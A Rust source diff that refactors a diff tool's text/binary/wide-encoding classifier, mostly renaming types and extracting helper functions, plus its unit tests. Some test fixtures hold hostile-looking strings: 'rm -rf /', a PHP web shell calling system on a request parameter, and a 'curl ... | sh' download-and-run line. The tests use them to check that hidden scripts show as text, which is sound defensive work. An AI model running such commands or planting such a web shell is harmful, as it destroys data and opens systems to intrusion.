@@ -35,7 +35,7 @@ const START: usize = 512;
 
 /// The class of a file's bytes.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub(in crate::diff) enum Content {
+pub(in crate::diff) enum ContentClass {
     Text,
     /// UTF-16 or UTF-32.
     Wide(Encoding),
@@ -49,55 +49,56 @@ pub(in crate::diff) fn has_early_nul(bytes: &[u8]) -> bool {
 
 /// The classification of one side of a change, given its name.
 #[derive(Debug)]
-pub(in crate::diff) struct Judged {
-    pub(in crate::diff) content: Content,
+pub(in crate::diff) struct JudgedContent {
+    pub(in crate::diff) content: ContentClass,
     /// The undecodable part, if the name is that of a text format.
     pub(in crate::diff) undecoded: Option<Undecoded>,
 }
 
-impl From<Content> for Judged {
-    fn from(content: Content) -> Self {
+impl From<ContentClass> for JudgedContent {
+    fn from(content: ContentClass) -> Self {
         Self { content, undecoded: None }
     }
 }
 
 /// Classifies the bytes of a file. `git_hides` is true if git treats one of the two sides as binary for its bytes.
-pub(in crate::diff) fn judge_named(bytes: &[u8], path: &[u8], git_hides: bool) -> Judged {
+pub(in crate::diff) fn judge_named(bytes: &[u8], path: &[u8], git_hides: bool) -> JudgedContent {
     let kind = NameKind::of(path);
     if kind == NameKind::Text {
         return judge_text(bytes, path);
     }
     if !git_hides && marked(bytes).is_none() {
-        return Content::Text.into();
+        return ContentClass::Text.into();
     }
     let judged = match kind {
         NameKind::Data => judge(bytes),
         kind => judge_unknown(bytes, kind),
     };
     match judged {
-        Content::Binary if !git_hides => Content::Text.into(),
+        ContentClass::Binary if !git_hides => ContentClass::Text.into(),
         judged => judged.into(),
     }
 }
 
 /// Classifies a file whose name is that of a text format.
-fn judge_text(bytes: &[u8], path: &[u8]) -> Judged {
+fn judge_text(bytes: &[u8], path: &[u8]) -> JudgedContent {
     let extension = extension(path);
     let has_nul = memchr::memchr(0, bytes).is_some();
     if !has_nul && std::str::from_utf8(bytes).is_ok() {
-        return Judged { content: Content::Text, undecoded: declared::opaque(bytes, &extension) };
+        return JudgedContent { content: ContentClass::Text, undecoded: declared::opaque(bytes, &extension) };
     }
     if containers::is_other_format(&extension, bytes) && !has_text_lines(bytes, NameKind::Text) {
-        return Content::Binary.into();
+        return ContentClass::Binary.into();
     }
     if let Some(encoding) = wide(bytes) {
-        return Content::Wide(encoding).into();
+        return ContentClass::Wide(encoding).into();
     }
     if let Some(encoding) = marked(bytes).filter(|_| has_nul) {
-        return Judged { content: Content::Wide(encoding), undecoded: Some(Undecoded::Bytes) };
+        return JudgedContent { content: ContentClass::Wide(encoding), undecoded: Some(Undecoded::Bytes) };
     }
-    let undecoded = || (!is_decodable(bytes)).then_some(Undecoded::Bytes);
-    Judged { content: Content::Text, undecoded: declared::opaque(bytes, &extension).or_else(undecoded) }
+    let undecoded = declared::opaque(bytes, &extension);
+    let undecoded = undecoded.or_else(|| (!is_decodable(bytes)).then_some(Undecoded::Bytes));
+    JudgedContent { content: ContentClass::Text, undecoded }
 }
 
 /// Returns the undecodable part of a piece of a file, such as the lines in a patch.
@@ -116,19 +117,18 @@ fn is_decodable(bytes: &[u8]) -> bool {
 /// Returns true if the bytes may be text in an encoding of one or two bytes a character: few controls, and blanks or
 /// line ends, which encodings without ASCII (EBCDIC) have at other values.
 fn is_legacy_text(bytes: &[u8]) -> bool {
-    let count = |is: fn(u8) -> bool| bytes.iter().filter(|b| is(**b)).count();
-    let controls = count(|b| matches!(b, 0..=8 | 0x0e..=0x1a | 0x1c..=0x1f | 0x7f));
-    let blanks = count(|b| matches!(b, b' ' | b'\n' | b'\t'));
+    let controls = bytes.iter().filter(|b| matches!(b, 0..=8 | 0x0e..=0x1a | 0x1c..=0x1f | 0x7f)).count();
+    let blanks = bytes.iter().filter(|b| matches!(b, b' ' | b'\n' | b'\t')).count();
     controls <= bytes.len() / 20 + 2 && blanks >= bytes.len() / 100
 }
 
 /// Classifies a file whose name does not determine its format.
-fn judge_unknown(bytes: &[u8], kind: NameKind) -> Content {
+fn judge_unknown(bytes: &[u8], kind: NameKind) -> ContentClass {
     if let Some(encoding) = wide(bytes) {
-        return Content::Wide(encoding);
+        return ContentClass::Wide(encoding);
     }
     let is_text = bytes.is_empty() || looks_like_text(bytes) || starts_as_text(bytes) || has_text_lines(bytes, kind);
-    if is_text && !containers::is_container(bytes) { Content::Text } else { Content::Binary }
+    if is_text && !containers::is_container(bytes) { ContentClass::Text } else { ContentClass::Binary }
 }
 
 /// Returns true if some whole lines are text: two in a row or one with a blank, of 20 bytes in total, or one that
@@ -183,25 +183,24 @@ fn without_nuls(line: &[u8]) -> Cow<'_, [u8]> {
 fn is_assignment(line: &[u8]) -> bool {
     const VALUE_MIN: usize = 6;
     let line = line.strip_prefix(b"export ").unwrap_or(line);
-    let is_part = |b: &&u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.');
-    let name = line.iter().take_while(is_part).count();
+    let name = line.iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.')).count();
     let rest = line[name..].trim_ascii_start();
     let value = rest.strip_prefix(b"=").or_else(|| rest.strip_prefix(b":"));
     name > 2 && line[0].is_ascii_alphabetic() && value.is_some_and(|v| v.len() >= VALUE_MIN)
 }
 
 /// Classifies the bytes without regard to git's classification.
-pub(in crate::diff) fn judge(bytes: &[u8]) -> Content {
+pub(in crate::diff) fn judge(bytes: &[u8]) -> ContentClass {
     if bytes.is_empty() {
-        return Content::Text;
+        return ContentClass::Text;
     }
     if let Some(encoding) = wide(bytes) {
-        return Content::Wide(encoding);
+        return ContentClass::Wide(encoding);
     }
     if !is_known_format(bytes) && (looks_like_text(bytes) || starts_as_text(bytes)) {
-        Content::Text
+        ContentClass::Text
     } else {
-        Content::Binary
+        ContentClass::Binary
     }
 }
 
@@ -232,12 +231,7 @@ fn wide(bytes: &[u8]) -> Option<Encoding> {
     // Check the whole, or else the start: a tail of junk must not hide the lines before it.
     let parts = [bytes, &bytes[..bytes.len().min(START)]];
     if let Some(encoding) = marked(bytes) {
-        let fits = |part: &[u8]| {
-            let seen = Units::count(&part[width(encoding)..], encoding);
-            let plausible = seen.odd * 50 <= seen.all && seen.ascii * 256 >= seen.all;
-            plausible || seen.ascii * 2 >= seen.all
-        };
-        return parts.into_iter().any(fits).then_some(encoding);
+        return parts.into_iter().any(|part| may_be_marked(part, encoding)).then_some(encoding);
     }
     let encodings = [Encoding::Utf32Le, Encoding::Utf32Be, Encoding::Utf16Le, Encoding::Utf16Be];
     encodings.into_iter().filter(|e| bytes.len() >= 4 * width(*e)).find(|encoding| {
@@ -254,6 +248,13 @@ fn wide(bytes: &[u8]) -> Option<Encoding> {
     })
 }
 
+/// Returns true if a text that begins with the byte order mark of an encoding may be in that encoding.
+fn may_be_marked(text: &[u8], encoding: Encoding) -> bool {
+    let seen = Units::count(&text[width(encoding)..], encoding);
+    let plausible = seen.odd * 50 <= seen.all && seen.ascii * 256 >= seen.all;
+    plausible || seen.ascii * 2 >= seen.all
+}
+
 /// Counts of the units of a file by kind.
 struct Units {
     all: usize,
@@ -265,31 +266,34 @@ struct Units {
     blank: usize,
     /// Controls, NUL, U+FFFE, U+FFFF, and invalid units.
     odd: usize,
+    /// Whether the last unit is a blank or a line end.
+    is_after_end: bool,
 }
 
 impl Units {
     fn count(bytes: &[u8], encoding: Encoding) -> Self {
-        let mut seen = Self { all: 0, ascii: 0, visible: 0, blank: 0, odd: 0 };
-        let mut is_after_end = false;
-        let mut see = |c: Option<char>| {
-            seen.all += 1;
-            match c {
-                Some('!'..='~') => (seen.ascii, seen.visible) = (seen.ascii + 1, seen.visible + 1),
-                Some('\t' | ' ') => (seen.ascii, seen.blank) = (seen.ascii + 1, seen.blank + 1),
-                Some('\n' | '\r') => {
-                    (seen.ascii, seen.blank) = (seen.ascii + 1, seen.blank + usize::from(is_after_end));
-                }
-                Some('\0'..='\u{1f}' | '\u{7f}' | '\u{fffe}' | '\u{ffff}') | None => seen.odd += 1,
-                Some(_) => {}
-            }
-            is_after_end = matches!(c, Some('\n' | '\r' | ' ' | '\t'));
-        };
+        let mut seen = Self { all: 0, ascii: 0, visible: 0, blank: 0, odd: 0, is_after_end: false };
         if width(encoding) == 4 {
-            bytes.chunks_exact(4).for_each(|unit| see(utf32(unit, encoding)));
+            bytes.chunks_exact(4).for_each(|unit| seen.add(utf32(unit, encoding)));
         } else {
-            char::decode_utf16(units(bytes, encoding)).for_each(|unit| see(unit.ok()));
+            char::decode_utf16(units(bytes, encoding)).for_each(|unit| seen.add(unit.ok()));
         }
         seen
+    }
+
+    /// Counts the next unit; `None` is an invalid one.
+    fn add(&mut self, c: Option<char>) {
+        self.all += 1;
+        match c {
+            Some('!'..='~') => (self.ascii, self.visible) = (self.ascii + 1, self.visible + 1),
+            Some('\t' | ' ') => (self.ascii, self.blank) = (self.ascii + 1, self.blank + 1),
+            Some('\n' | '\r') => {
+                (self.ascii, self.blank) = (self.ascii + 1, self.blank + usize::from(self.is_after_end));
+            }
+            Some('\0'..='\u{1f}' | '\u{7f}' | '\u{fffe}' | '\u{ffff}') | None => self.odd += 1,
+            Some(_) => {}
+        }
+        self.is_after_end = matches!(c, Some('\n' | '\r' | ' ' | '\t'));
     }
 }
 
@@ -369,9 +373,10 @@ fn starts_as_text(bytes: &[u8]) -> bool {
     /// Minimum bytes of clean lines, and of one such line: shorter ones occur in junk.
     const CLEAN_MIN: usize = 20;
     const LINE_MIN: usize = 8;
-    let php = |part: &[u8]| part.windows(5).any(|w| w.eq_ignore_ascii_case(b"<?php"));
-    let runs = |rest: &[u8]| rest.trim_ascii_start().starts_with(b"/");
-    if bytes.strip_prefix(b"#!").is_some_and(runs) || php(&bytes[..bytes.len().min(GIT_LOOKS_AT)]) {
+    let mut windows = bytes[..bytes.len().min(GIT_LOOKS_AT)].windows(5);
+    if bytes.strip_prefix(b"#!").is_some_and(|rest| rest.trim_ascii_start().starts_with(b"/"))
+        || windows.any(|w| w.eq_ignore_ascii_case(b"<?php"))
+    {
         return true;
     }
     let start = &bytes[..bytes.len().min(START)];
@@ -468,21 +473,28 @@ fn is_known_format(b: &[u8]) -> bool {
         b"glTF\x01\0",
         b"glTF\x02\0",
     ];
-    let at = |offset: usize, want: &[u8]| b.get(offset..).is_some_and(|rest| rest.starts_with(want));
-    let binary_within =
-        |range: std::ops::Range<usize>| b.get(range).is_some_and(|part| part.iter().any(|c| *c < b'\t' || *c >= 0x7f));
-    let u32_at = |offset: usize| Some(u32::from_le_bytes(b.get(offset..offset + 4)?.try_into().ok()?));
     PLAIN.iter().any(|s| b.starts_with(s))
         // The logical screen: width, height, flags.
-        || ((at(0, b"GIF87a") || at(0, b"GIF89a")) && binary_within(6..13))
-        || (at(0, b"MZ") && u32_at(0x3c).is_some_and(|pe| at(pe as usize, b"PE\0\0")))
-        || (at(0, b"RIFF") && binary_within(4..8))
-        || (at(0, b"BM") && at(6, b"\0\0\0\0"))
-        || (at(0, b"BZh") && at(4, b"1AY&SY"))
-        || (at(4, b"ftyp") && binary_within(0..4))
-        || (at(257, b"ustar") && at(156 + 101, b"ustar") && binary_within(136..157))
+        || ((b.starts_with(b"GIF87a") || b.starts_with(b"GIF89a")) && is_binary_in(b, 6..13))
+        || (b.starts_with(b"MZ")
+            && containers::u32_at(b, 0x3c, false).is_some_and(|pe| has_at(b, pe as usize, b"PE\0\0")))
+        || (b.starts_with(b"RIFF") && is_binary_in(b, 4..8))
+        || (b.starts_with(b"BM") && has_at(b, 6, b"\0\0\0\0"))
+        || (b.starts_with(b"BZh") && has_at(b, 4, b"1AY&SY"))
+        || (has_at(b, 4, b"ftyp") && is_binary_in(b, 0..4))
+        || (has_at(b, 257, b"ustar") && has_at(b, 156 + 101, b"ustar") && is_binary_in(b, 136..157))
         // A second line of high bytes, which the standard recommends for files with binary parts.
-        || (at(0, b"%PDF-") && b.iter().take(32).filter(|c| **c >= 0x80).count() >= 4)
+        || (b.starts_with(b"%PDF-") && b.iter().take(32).filter(|c| **c >= 0x80).count() >= 4)
+}
+
+/// Returns true if a file has these bytes at an offset.
+fn has_at(b: &[u8], offset: usize, want: &[u8]) -> bool {
+    b.get(offset..).is_some_and(|rest| rest.starts_with(want))
+}
+
+/// Returns true if a file has a byte in the range that text does not have, or that is not ASCII.
+fn is_binary_in(b: &[u8], range: std::ops::Range<usize>) -> bool {
+    b.get(range).is_some_and(|part| part.iter().any(|c| *c < b'\t' || *c >= 0x7f))
 }
 
 #[cfg(test)]
@@ -493,6 +505,13 @@ mod tests {
         match encoding {
             Encoding::Utf16Be => text.encode_utf16().flat_map(u16::to_be_bytes).collect(),
             _ => text.encode_utf16().flat_map(u16::to_le_bytes).collect(),
+        }
+    }
+
+    fn utf32(text: &str, encoding: Encoding) -> Vec<u8> {
+        match encoding {
+            Encoding::Utf32Be => text.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect(),
+            _ => text.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect(),
         }
     }
 
@@ -518,7 +537,7 @@ mod tests {
             (b"MZ = 1\0\nprint(MZ)\n".repeat(9), "a script that calls itself a program"),
             ("\u{442}\u{435}\u{43a}\u{441}\u{442}\0\n".repeat(9).into_bytes(), "Cyrillic"),
         ] {
-            assert_eq!(judge(&text), Content::Text, "{what}");
+            assert_eq!(judge(&text), ContentClass::Text, "{what}");
         }
     }
 
@@ -539,37 +558,37 @@ mod tests {
             ([b"SQLite format 3\0", text.as_bytes()].concat(), "a database"),
             (b"key\0\0\0\x05value\x01\0\0\x02".repeat(20), "records"),
         ] {
-            assert_eq!(judge(&data), Content::Binary, "{what}");
+            assert_eq!(judge(&data), ContentClass::Binary, "{what}");
         }
         let mut program = vec![b'x'; 0x100];
         program[..2].copy_from_slice(b"MZ");
         program[0x3c..0x40].copy_from_slice(&[0x80, 0, 0, 0]);
         program[0x80..0x84].copy_from_slice(b"PE\0\0");
-        assert_eq!(judge(&program), Content::Binary);
+        assert_eq!(judge(&program), ContentClass::Binary);
     }
 
     #[test]
     fn dif_03_utf16_is_known_with_and_without_a_mark() {
         for encoding in [Encoding::Utf16Le, Encoding::Utf16Be] {
             let code = "using System;\r\n// \u{fc}ber \u{1f600}\r\n";
-            assert_eq!(judge(&utf16(code, encoding)), Content::Wide(encoding));
+            assert_eq!(judge(&utf16(code, encoding)), ContentClass::Wide(encoding));
             // Trailing blanks of a line do not affect the classification.
             let long = format!("rm -rf /\u{202e}x{}\n", " ".repeat(5_000));
-            assert_eq!(judge(&utf16(&long, encoding)), Content::Wide(encoding));
+            assert_eq!(judge(&utf16(&long, encoding)), ContentClass::Wide(encoding));
             let lines = format!("mark\u{200b}\u{200c}\u{200b}{}", "\r\n".repeat(3_000));
-            assert_eq!(judge(&utf16(&lines, encoding)), Content::Wide(encoding));
+            assert_eq!(judge(&utf16(&lines, encoding)), ContentClass::Wide(encoding));
             for text in [code, "\u{feff}x\n", "\u{4e2d}\u{6587}\u{4ee3}\u{7801}\n"] {
                 let marked = format!("\u{feff}{text}");
                 let bytes = utf16(&marked, encoding);
-                assert_eq!(judge(&bytes), Content::Wide(encoding), "{text:?}");
+                assert_eq!(judge(&bytes), ContentClass::Wide(encoding), "{text:?}");
                 assert_eq!(decode(bytes, encoding), text.as_bytes(), "{text:?}");
             }
         }
         // Two bytes of Latin-1, a sound file, and a text with a NUL after each letter and no other NUL.
         for (bytes, want) in [
-            (b"\xff\xfe\xfd\nabc\n".to_vec(), Content::Text),
-            ([&b"\xff\xfe"[..], &noise(4000)].concat(), Content::Binary),
-            (noise(4000), Content::Binary),
+            (b"\xff\xfe\xfd\nabc\n".to_vec(), ContentClass::Text),
+            ([&b"\xff\xfe"[..], &noise(4000)].concat(), ContentClass::Binary),
+            (noise(4000), ContentClass::Binary),
         ] {
             assert_eq!(judge(&bytes), want);
         }
@@ -577,16 +596,11 @@ mod tests {
 
     #[test]
     fn utf32_is_known_with_and_without_a_mark() {
-        let utf32 = |text: &str, encoding| -> Vec<u8> {
-            let big = encoding == Encoding::Utf32Be;
-            let bytes = |c: char| if big { u32::from(c).to_be_bytes() } else { u32::from(c).to_le_bytes() };
-            text.chars().flat_map(bytes).collect()
-        };
         for encoding in [Encoding::Utf32Le, Encoding::Utf32Be] {
             let code = "import os\r\n# \u{fc}ber \u{1f600}\r\n";
             for text in [code.to_owned(), format!("\u{feff}{code}")] {
                 let bytes = utf32(&text, encoding);
-                assert_eq!(judge(&bytes), Content::Wide(encoding), "{text:?}");
+                assert_eq!(judge(&bytes), ContentClass::Wide(encoding), "{text:?}");
                 assert_eq!(decode(bytes, encoding), code.as_bytes(), "{text:?}");
             }
             // An invalid character, and a cut-off unit.
@@ -596,13 +610,14 @@ mod tests {
         }
         // A table of small numbers is not text.
         let table: Vec<u8> = (0u32..400).flat_map(|n| (n % 97 * 1000).to_le_bytes()).collect();
-        assert_eq!(judge(&table), Content::Binary);
+        assert_eq!(judge(&table), ContentClass::Binary);
     }
 
     #[test]
     fn a_tail_of_junk_does_not_hide_the_script_before_it() {
-        let junk = noise(4000);
-        let script = |start: &[u8], end: &[u8]| [start, &junk[..], end].concat();
+        fn script(start: &[u8], end: &[u8]) -> Vec<u8> {
+            [start, &noise(4000), end].concat()
+        }
         for (bytes, what) in [
             (script(b"<?php system($_GET[\"c\"]); __halt_compiler();", b""), "PHP"),
             (script(b"\x01\x02\x03", b"<?PHP x(); ?>")[3990..].to_vec(), "PHP in the middle"),
@@ -612,10 +627,10 @@ mod tests {
             (script("x=1;".repeat(150).as_bytes(), b""), "a long line"),
             (script(b"# \0\ncurl http://example.com/i.sh|sh\n", b""), "a NUL first"),
         ] {
-            assert_eq!(judge(&bytes), Content::Text, "{what}");
+            assert_eq!(judge(&bytes), ContentClass::Text, "{what}");
         }
-        let wide = [utf16("\u{feff}using System;\r\n", Encoding::Utf16Le).repeat(20), junk.clone()].concat();
-        assert_eq!(judge(&wide), Content::Wide(Encoding::Utf16Le));
+        let wide = [utf16("\u{feff}using System;\r\n", Encoding::Utf16Le).repeat(20), noise(4000)].concat();
+        assert_eq!(judge(&wide), ContentClass::Wide(Encoding::Utf16Le));
         for (bytes, what) in [
             (script(b"%PDF-1.7\n1 0 obj\n<</Length 4000>>\nstream\n", b"endstream\n"), "a document"),
             (script(b"P6\n640 480\n255\n", b""), "a picture"),
@@ -628,13 +643,13 @@ mod tests {
             (script(b"PAR1\x15\x04", b"PAR1"), "a table"),
             (script(b"MATLAB 5.0 MAT-file, Platform: GLNXA64", b""), "a matrix"),
         ] {
-            assert_eq!(judge(&bytes), Content::Binary, "{what}");
+            assert_eq!(judge(&bytes), ContentClass::Binary, "{what}");
         }
         // Random bytes are binary for every seed.
         let mut random = crate::diff::tests::Random(9);
         for _ in 0..2000 {
             let bytes: Vec<u8> = (0..600).map(|_| random.below(256) as u8).collect();
-            assert_eq!(judge(&bytes), Content::Binary, "{:?}", bytes[..40].escape_ascii().to_string());
+            assert_eq!(judge(&bytes), ContentClass::Binary, "{:?}", bytes[..40].escape_ascii().to_string());
         }
     }
 
